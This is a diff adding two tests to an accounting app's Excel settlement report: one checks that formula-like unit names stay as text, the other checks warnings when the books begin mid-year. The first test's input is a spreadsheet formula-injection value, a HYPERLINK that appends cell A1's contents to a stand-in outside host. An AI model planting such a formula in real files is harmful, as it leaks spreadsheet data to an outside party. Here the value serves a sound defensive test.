@@ -5,6 +5,7 @@ a remittance, a fee and interest, one voided receipt, and documents outside the 
 Every line is checked against the documents as the test itself recorded and added them up,
 never through the settlement's code; then the PDF's text (pdfium, as the printing tests read it) and the Excel cells."""
 
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 
@@ -297,3 +298,41 @@ def test_only_the_books_keepers_type_part_a_and_record_the_year(year, tmp_path):
     CashService(ctx).void(doc.id, "Ghi trùng")
     assert not settlement_b07(ctx, Y + 1).warnings  # nothing reported for 2025 to differ from
     save_inputs(ctx, Y, {"workers_kpcd": 10})
+
+
+def test_the_excel_file_keeps_a_name_that_looks_like_a_formula_as_text(ctx, tmp_path):
+    """A union named "=HYPERLINK(…)" (or "=== … ===") is text in the file, never a formula
+    Excel would run, nor one that stops it opening the file."""
+    from desktop.printing.data import UnitHeader
+    from desktop.services.reports import settlement_b07, write_b07
+
+    setup_unit(ctx)
+    header = UnitHeader(unit_name='=HYPERLINK("http://example.invalid/"&A1,"CĐCS")', upper_name="=== LĐLĐ ===",
+                        qhns_code=None, address=None, place="Hà Nội")
+    out = write_b07(header, settlement_b07(ctx, Y), tmp_path / "b07.xlsx")
+    ws = load_workbook(out).active
+    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert texts and all(c.data_type == "s" for c in texts)
+    assert {c.value for c in texts} >= {"=== LĐLĐ ===", '=HYPERLINK("HTTP://EXAMPLE.INVALID/"&A1,"CĐCS")'}
+
+
+def test_books_begun_mid_year_are_said_on_the_settlement(ctx):
+    """The wizard's opening balances on 01/07: the year's settlement says its figures are
+    from that day; a year that ended before the books began says it has nothing."""
+    from desktop.services.reports import settlement_b07
+    from desktop.services.units.service import UnitService
+
+    setup_unit(ctx)
+    units = UnitService(ctx)
+    units.save_dues_settings(replace(units.dues_settings(), opening_balance=5_000_000,
+                                     opening_date=date(Y, 7, 1)))
+    BankAccountService(ctx).add(AccountInput(
+        kind="bank", bank_bin="970436", account_number="0071009999999", account_name="CĐCS PHÚ LÂM",
+        opening_date=date(Y, 7, 1), opening_balance=25_000_000))
+    warnings = settlement_b07(ctx, Y).warnings
+    assert any("Sổ quỹ tiền mặt bắt đầu ghi trên phần mềm từ ngày 01/07/2025" in w for w in warnings)
+    assert any("Sổ tiền gửi Vietcombank 0071009999999 bắt đầu ghi trên phần mềm từ ngày 01/07/2025" in w
+               for w in warnings)
+    before = settlement_b07(ctx, Y - 1).warnings
+    assert any(w.startswith("Năm 2024 kết thúc trước khi sổ sách bắt đầu") for w in before)
+    assert not any("bắt đầu" in w for w in settlement_b07(ctx, Y + 1).warnings)
